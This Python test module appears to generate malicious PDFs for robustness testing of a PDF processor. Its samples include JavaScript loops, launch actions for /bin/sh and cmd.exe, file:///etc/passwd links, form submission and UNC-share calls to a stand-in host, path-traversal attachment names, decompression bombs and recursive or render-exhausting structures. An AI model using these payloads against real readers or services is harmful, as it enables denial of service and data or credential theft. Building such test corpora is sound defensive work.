"""PDFs that mean harm: scripts, attached files, passwords, circles, depth, bombs, drawings without end."""

import io
import random
import zlib
from collections.abc import Callable

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.campaigns.hostile_pictures import MEGABYTE, picture, zeros

BOX = b"[0 0 200 280]"


def pdf(*objects: bytes, root: bytes = b"1 0 R", trailer: bytes = b"") -> bytes:
    """Return a PDF of these objects, numbered from 1, with a right table of places."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root %s%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, trailer, table)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<<%s/Length %d>>stream\n" % (extra, len(data)) + data + b"\nendstream"


def one_page(
    content: bytes, resources: bytes = b"", *more: bytes, box: bytes = BOX, page: bytes = b"", root: bytes = b""
) -> bytes:
    """Return a PDF of one page; further objects are numbered from 5."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % root,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R/Resources<<%s>>%s>>" % (box, resources, page),
        content if content.startswith(b"<<") else stream(content),
        *more,
    )


def drawn(encrypt: object = None, compress: int = 0) -> bytes:
    """Return an honest PDF of two pages with text, lines and a picture."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, (200, 280), pageCompression=compress, encrypt=encrypt, invariant=True)
    canvas.drawString(20, 250, "Residence certificate 0042")
    canvas.setFillColorRGB(0.2, 0.4, 0.9, 0.5)
    canvas.roundRect(20, 20, 90, 60, 9, fill=1)
    canvas.linearGradient(0, 0, 100, 100, ("red", "blue"))
    canvas.linkURL("https://example.invalid", (0, 0, 50, 50))
    canvas.bookmarkPage("one")
    canvas.addOutlineEntry("one", "one")
    canvas.showPage()
    canvas.acroForm.textfield(name="field", x=20, y=20, width=90, height=20)
    canvas.drawString(20, 200, "page two")
    canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def good_pdfs() -> list[bytes]:
    """Return the good PDFs that are damaged."""
    jpeg = stream(
        picture("JPEG"),
        b"/Subtype/Image/Width 150/Height 210/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode",
    )
    flat = stream(
        zlib.compress(bytes(range(256)) * 30),
        b"/Subtype/Image/Width 64/Height 40/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode",
    )
    fax = stream(
        bytes.fromhex("26a0d9f0") * 40,
        b"/Subtype/Image/Width 64/Height 40/BitsPerComponent 1/ColorSpace/DeviceGray"
        b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 64>>",
    )
    jbig = stream(
        bytes.fromhex("0000000030000100000013000000400000002800000000000000000100000000"),
        b"/Subtype/Image/Width 64/Height 40/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
    )
    shown = b"q 200 0 0 280 0 0 cm /I Do Q"
    pictures = [one_page(shown, b"/XObject<</I 5 0 R>>", image) for image in (jpeg, flat, fax, jbig)]
    layers = one_page(
        b"/G gs /P cs /T scn 0 0 100 100 re f /S sh BT /F 12 Tf 20 200 Td (text) Tj ET",
        b"/ExtGState<</G<</ca .5/SMask<</S/Luminosity/G 6 0 R>>>>>>/ColorSpace<</P/Pattern>>/Pattern<</T 5 0 R>>"
        b"/Shading<</S<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 99 99]/Function 7 0 R>>>>"
        b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>",
        stream(b"0 0 5 5 re f", b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<<>>"),
        stream(b"0 0 50 50 re f", b"/Subtype/Form/BBox[0 0 99 99]/Group<</S/Transparency/CS/DeviceGray>>"),
        b"<</FunctionType 2/Domain[0 1]/C0[1 0 0]/C1[0 0 1]/N 1>>",
    )
    return [drawn(), drawn(compress=1), layers, *pictures]


def _script(chance: random.Random) -> bytes:
    act = chance.choice(
        (
            b"<</S/JavaScript/JS(while\\(true\\){app.alert\\(1\\)})>>",
            b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>",
            b"<</S/URI/URI(file:///etc/passwd)>>",
            b"<</S/SubmitForm/F<</FS/URL/F(https://example.invalid)>>>>",
            b"<</S/GoToR/F(\\\\\\\\example.invalid\\\\share\\\\x)>>",
        )
    )
    root = b"/OpenAction %s/AA<</WC %s>>/Names<</JavaScript<</Names[(a)%s]>>>>" % (act, act, act)
    return one_page(b"0 0 9 9 re f", b"", root=root, page=b"/AA<</O %s>>" % act)


def _attached(chance: random.Random) -> bytes:
    name = chance.choice((b"a.exe", b"../../../etc/cron.d/x", b"a.pdf"))
    files = b"/Names<</EmbeddedFiles<</Names[(%s)<</Type/Filespec/F(%s)/EF<</F 5 0 R>>>>]>>>>" % (name, name)
    return one_page(b"0 0 9 9 re f", b"", stream(zeros(80 * MEGABYTE), b"/Filter/FlateDecode"), root=files)


def _locked(chance: random.Random) -> bytes:
    owner, user = chance.choice((("o", "u"), ("o", ""), ("", "密码")))
    locked = bytearray(drawn(StandardEncryption(user, owner, strength=chance.choice((40, 128)))))
    if chance.random() < 0.3:
        place = locked.index(b"/Encrypt") + 9
        locked[place : place + 3] = chance.randbytes(3)
    return bytes(locked)


def _deep(chance: random.Random) -> bytes:
    depth = chance.choice((50, 5_000, 1_000_000))
    opener, closer = chance.choice(((b"[", b"]"), (b"<</A ", b">>"), (b"(", b")"), (b"q ", b"Q "), (b"BT ", b"ET ")))
    nest = opener * depth + (closer * depth if chance.random() < 0.7 else b"")
    return chance.choice(
        (one_page(nest), one_page(b"", b"/X " + nest), pdf(nest), one_page(b"", b"", nest, page=b"/Annots 5 0 R"))
    )


def _circle(chance: random.Random) -> bytes:
    """Something that contains itself: pages, forms, patterns, masks, fonts, lengths, object streams."""
    form = stream(b"/F Do /F Do", b"/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</F 5 0 R>>>>")
    tile = stream(
        b"/Pattern cs /P scn 0 0 99 99 re f",
        b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<</Pattern<</P 5 0 R>>>>",
    )
    letter = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>"
    letter += b"/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1]/Resources<</Font<</F 5 0 R>>>>>>"
    mask = stream(
        b"/G gs 0 0 9 9 re f",
        b"/Subtype/Form/BBox[0 0 9 9]/Group<</S/Transparency>>"
        b"/Resources<</ExtGState<</G<</SMask<</S/Alpha/G 5 0 R>>>>>>>>",
    )
    again = stream(b"BT /F 9 Tf (aaaa) Tj ET")
    return chance.choice(
        (
            one_page(b"/F Do", b"/XObject<</F 5 0 R>>", form),
            one_page(b"/Pattern cs /P scn 0 0 200 200 re f", b"/Pattern<</P 5 0 R>>", tile),
            one_page(b"BT /F 9 Tf (aaaa) Tj ET", b"/Font<</F 5 0 R>>", letter, again),
            one_page(b"/G gs 0 0 9 9 re f", b"/ExtGState<</G<</SMask<</S/Alpha/G 5 0 R>>>>>>", mask),
            pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9/Parent 2 0 R>>"),
            pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"2 0 R", b"3 0 R", trailer=b"/Prev 9/XRefStm 9"),
            one_page(b"<</Length 4 0 R>>stream\nendstream"),
            one_page(stream(b"0 0 9 9 re f", b"/Filter 6 0 R"), b"", b"[5 0 R]", b"6 0 R"),
            pdf(b"<</Type/Catalog/Pages 2 0 R>>", stream(b"2 0 3 9", b"/Type/ObjStm/N 2/First 5/Extends 2 0 R")),
        )
    )


def _bomb(chance: random.Random) -> bytes:
    size = chance.choice((30, 200, 900)) * MEGABYTE
    packed = zeros(size) if size < 900 * MEGABYTE else zlib.compress(zeros(size), 9)
    flate = b"/Filter/FlateDecode" if size < 900 * MEGABYTE else b"/Filter[/FlateDecode/FlateDecode]"
    side = chance.choice((6_000, 30_000, 2**31 - 1))
    image = b"/Subtype/Image/Width %d/Height %d/BitsPerComponent %d/ColorSpace/DeviceRGB" % (
        side,
        side,
        chance.choice((1, 8, 16)),
    )
    show = b"q 200 0 0 280 0 0 cm /I Do Q"
    return chance.choice(
        (
            one_page(stream(packed, flate)),
            one_page(show, b"/XObject<</I 5 0 R>>", stream(packed, flate + image)),
            one_page(stream(b"80" * 9_000 + b">", b"/Filter[" + b"/ASCIIHexDecode" * 200 + b"]")),
            one_page(stream(b"\x81A" * 2_000_000, b"/Filter/RunLengthDecode")),
            one_page(show * 20_000, b"/XObject<</I 5 0 R>>", stream(picture("JPEG"), image + b"/Filter/DCTDecode")),
            pdf(stream(packed, flate + b"/Type/XRef/W[1 4 2]/Size 99999999/Root 1 0 R")),
        )
    )


def _endless(chance: random.Random) -> bytes:
    """Drawings that take a renderer for ever: tiny tiles, a million curves, billions of forms, fine shadings."""
    tile = stream(
        b"0 0 1 1 re f",
        b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .0001/YStep .0001/Resources<<>>",
    )
    curves = b"".join(b"%d %d %d %d %d %d c " % tuple(chance.randrange(200) for _ in range(6)) for _ in range(2_000))
    forms = []
    for number in range(5, 14):
        under = b"/XObject<</F %d 0 R>>" % (number + 1)
        forms.append(stream(b"/F Do " * 10, b"/Subtype/Form/BBox[0 0 200 280]/Resources<<%s>>" % under))
    forms.append(stream(b"0 0 200 280 re f", b"/Subtype/Form/BBox[0 0 200 280]"))
    shading = b"/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1e9 0 1e9]/Function 5 0 R>>>>"
    program = stream(
        b"{" + b"sin cos exp " * 3_000 + b"dup dup}", b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]"
    )
    veils = b"/G gs " + b"0 0 200 280 re f " * chance.choice((100, 30_000))
    dashes = b"[.0001 .0001] 0 d .001 w 0 0 m " + curves + b" S "
    return chance.choice(
        (
            one_page(b"/Pattern cs /P scn 0 0 200 280 re f", b"/Pattern<</P 5 0 R>>", tile),
            one_page(b"0 0 m " + curves * chance.choice((1, 40)) + b" f*"),
            one_page(b"/F Do", b"/XObject<</F 5 0 R>>", *forms),
            one_page(b"/S sh", shading, program),
            one_page(veils, b"/ExtGState<</G<</ca .01/BM/Luminosity>>>>"),
            one_page(dashes),
            one_page(b"BT /F 1 Tf " + b"(" + b"x" * 3_000_000 + b") Tj ET", b"/Font<</F<</Subtype/Type1>>>>"),
        )
    )


def _boxes(chance: random.Random) -> bytes:
    side = chance.choice((b"0", b"-500", b"1e38", b"99999999", b"0.0001", b"14400", b"nan", b"3000", b"200"))
    other = chance.choice((side, b"200", b"3"))
    page = chance.choice((b"", b"/Rotate 90", b"/Rotate 13", b"/UserUnit 1e9", b"/CropBox[9 9 9 9]", b"/Rotate 1e30"))
    return one_page(b"0 0 9 9 re f", box=b"[0 0 %s %s]" % (side, other), page=page)


def _pages(chance: random.Random) -> bytes:
    said = chance.choice((61, 60, 100_000, 2**31 - 1, -1))
    kids = b"3 0 R " * chance.choice((1, 60, 61, 100_000))
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, said),
        b"<</Type/Page/Parent 2 0 R/MediaBox%s>>" % BOX,
    )


def _slow_pages(chance: random.Random) -> bytes:
    """Sixty pages that are each nearly as large as a page may be."""
    kids = b"3 0 R " * 60
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count 60>>" % kids,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %d 3000]/Contents 4 0 R>>" % chance.choice((600, 3_000)),
        stream(b"0 0 9 9 re f"),
    )


PDF_ATTACKS: tuple[Callable[[random.Random], bytes], ...] = (
    _script,
    _attached,
    _locked,
    _deep,
    _circle,
    _bomb,
    _endless,
    _boxes,
    _pages,
    _slow_pages,
)
